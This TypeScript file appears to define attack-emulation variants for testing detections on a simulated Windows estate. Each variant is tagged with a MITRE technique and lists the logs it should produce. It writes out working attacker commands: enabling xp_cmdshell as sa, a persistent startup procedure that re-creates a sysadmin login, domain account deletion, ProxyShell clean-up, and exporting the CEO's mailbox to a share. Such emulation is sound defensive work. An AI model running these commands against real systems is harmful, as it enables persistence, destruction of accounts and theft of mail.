import { v } from "../dsl";
import type { Run, ThenAction, Variant } from "../types";

/** The default instance of SQL Server 2022 on the estate's server: its engine, started by the SCM. */
const BINN = "C:\\Program Files\\Microsoft SQL Server\\MSSQL16.MSSQLSERVER\\MSSQL\\Binn";
// The engine runs under NETWORK SERVICE here: the estate has no NT SERVICE\MSSQLSERVER virtual account.
const sqlservr: Run = {
  cmd: `"${BINN}\\sqlservr.exe" -sMSSQLSERVER`,
  image: `${BINN}\\sqlservr.exe`,
  as: "sql",
  host: "@server",
  parent: "@services",
  user: "@networkservice",
  keep: true,
};

/** sqlcmd from the SQL Server command-line utilities (ODBC driver 17 tools). */
const SQLCMD = "C:\\Program Files\\Microsoft SQL Server\\Client SDK\\ODBC\\170\\Tools\\Binn\\SQLCMD.EXE";

/** What the server logs for one sqlcmd batch from the workstation, done by its sqlservr.exe. */
function onServer(...actions: ThenAction[]): ThenAction[] {
  return actions.map((a) => ({ ...a, proc: "sql", host: "@server" }) as ThenAction);
}

/** A server audit (TO APPLICATION_LOG) records sa's EXECUTE of a system procedure from the workstation's sqlcmd. */
function executed(id: string, object: string, classType: string, statement: string): ThenAction {
  return {
    id,
    kind: "mssql.audit",
    object,
    classType,
    statement,
    clientIp: "{{meip}}",
    clientHost: "{{me}}",
    application: "SQLCMD",
  } as ThenAction;
}

/** Exchange remote PowerShell: the MSExchangePowerShellAppPool worker on the server runs the cmdlets. */
const exchangeWorker: Run = {
  cmd: 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "MSExchangePowerShellAppPool" -v "v4.0" -c "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\bin\\GenericAppPoolConfigWithGCServerEnabledFalse.config" -a \\\\.\\pipe\\iisipm{{guid}} -h "C:\\inetpub\\temp\\apppools\\MSExchangePowerShellAppPool\\MSExchangePowerShellAppPool.config" -w "" -m 0',
  image: "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
  as: "w3",
  host: "@server",
  parent: "@svchost:netsvcs",
  user: "@system",
  keep: true,
};

function cmdlet(id: string, name: string, parameters: Record<string, string>, user: string): ThenAction {
  return {
    id,
    kind: "exchange.cmdlet",
    proc: "w3",
    host: "@server",
    cmdlet: name,
    parameters,
    user,
  } as ThenAction;
}

/**
 * Extra variants (see ../extras.ts): SQL Server abused with sa rights (xp_cmdshell turned on and used, a startup
 * procedure through sp_procoption) as SQL Server's own Application events show it, and Exchange cmdlets as the
 * MSExchange Management log records them (ProxyShell's export-request clean-up, a mailbox exported to a share).
 */
export const extrasO: Readonly<Record<string, readonly Variant[]>> = {
  "T1505.001": [
    // sp_configure through sqlcmd with the sa password, then xp_cmdshell: sqlservr.exe starts cmd.exe /c.
    v(
      "sa-xp-cmdshell",
      [
        sqlservr,
        {
          cmd: "sqlcmd -S {{srv}} -U sa -P {{rand2}}! -Q \"EXEC sp_configure 'show advanced options', 1; RECONFIGURE; EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE;\"",
          image: SQLCMD,
          net: [["@server", 1433]],
          then: onServer(
            { id: "adv", kind: "mssql.config", option: "show advanced options" },
            { id: "xp", kind: "mssql.config", option: "xp_cmdshell" },
          ),
        },
        {
          cmd: "sqlcmd -S {{srv}} -U sa -P {{rand2}}! -Q \"EXEC xp_cmdshell 'whoami /all'\"",
          image: SQLCMD,
          net: [["@server", 1433]],
          then: onServer(executed("exec", "xp_cmdshell", "X", "EXEC xp_cmdshell 'whoami /all'")),
        },
        { cmd: 'cmd.exe /c "whoami /all"', parent: "sql", host: "@server", as: "xc" },
        { cmd: "whoami /all", parent: "xc", host: "@server" },
      ],
      { shell: "cmd" },
    ),
    // NetSPI's startup-procedure persistence: a procedure in master that re-creates a sysadmin login, marked to
    // run at every service start (sp_procoption turns on "scan for startup procs").
    v(
      "sa-sp-procoption",
      [
        sqlservr,
        {
          cmd: "sqlcmd -S {{srv}} -U sa -P {{rand2}}! -d master -Q \"CREATE PROCEDURE sp_{{name}} AS BEGIN CREATE LOGIN {{name}} WITH PASSWORD = '{{rand}}!Aa'; EXEC sp_addsrvrolemember '{{name}}', 'sysadmin'; END\"",
          image: SQLCMD,
          net: [["@server", 1433]],
        },
        {
          cmd: "sqlcmd -S {{srv}} -U sa -P {{rand2}}! -d master -Q \"EXEC sp_procoption @ProcName = 'sp_{{name}}', @OptionName = 'startup', @OptionValue = 'on'\"",
          image: SQLCMD,
          net: [["@server", 1433]],
          then: onServer(
            { id: "scan", kind: "mssql.config", option: "scan for startup procs" },
            executed(
              "proc",
              "sp_procoption",
              "P",
              "EXEC sp_procoption @ProcName = 'sp_{{name}}', @OptionName = 'startup', @OptionValue = 'on'",
            ),
          ),
        },
      ],
      { shell: "cmd" },
    ),
  ],
  // Access removal with net.exe run on the DC through WMI as a domain admin: the user is disabled, then deleted (DC-side 4725,
  // 4738, 4726).
  T1531: [
    v(
      "ad-disable-then-delete",
      [
        {
          cmd: "net user {{user}} /active:no /domain",
          host: "@dc",
          parent: "@wmiprvse",
          user: "@admin",
          then: [{ id: "off", kind: "account.disable", user: "@user" }],
        },
        {
          cmd: "net user {{user}} /delete /domain",
          host: "@dc",
          parent: "@wmiprvse",
          user: "@admin",
          then: [{ id: "del", kind: "account.delete", user: "@user" }],
        },
      ],
      { shell: "none" },
    ),
  ],
  // ProxyShell's clean-up: through the Exchange PowerShell endpoint, as the impersonated Administrator, the
  // export request that dropped the web shell is removed so Get-MailboxExportRequest shows nothing.
  "T1070.008": [
    v(
      "proxyshell-remove-export-request",
      [
        exchangeWorker,
        {
          by: "w3",
          host: "@server",
          delay: 4000,
          then: [
            cmdlet(
              "rm",
              "Remove-MailboxExportRequest",
              { Identity: "{{dns}}/Users/Administrator\\MailboxExport", Confirm: "False" },
              "Administrator",
            ),
          ],
        },
      ],
      { shell: "none" },
    ),
  ],
  // An admin's remote Exchange session from the workstation grants itself Mailbox Import Export and exports the
  // CEO's mailbox to a share (the PST is then picked up over SMB).
  "T1114.002": [
    v(
      "exchange-remote-session-export",
      [
        exchangeWorker,
        {
          ps: "$s = New-PSSession -ConfigurationName Microsoft.Exchange -ConnectionUri http://{{srvfqdn}}/PowerShell/ -Authentication Kerberos; Import-PSSession $s -DisableNameChecking | Out-Null; New-ManagementRoleAssignment -Role 'Mailbox Import Export' -User {{admin}}; New-MailboxExportRequest -Mailbox ceo -FilePath \\\\{{srv}}\\PerfLogs$\\ceo.pst",
          net: [["@server", 80]],
          then: [
            cmdlet(
              "role",
              "New-ManagementRoleAssignment",
              { Role: "Mailbox Import Export", User: "{{admin}}" },
              "@admin",
            ),
            cmdlet(
              "export",
              "New-MailboxExportRequest",
              { Mailbox: "ceo", FilePath: "\\\\{{srv}}\\PerfLogs$\\ceo.pst" },
              "@admin",
            ),
          ],
        },
      ],
      { shell: "ps", user: "@admin" },
    ),
  ],
};
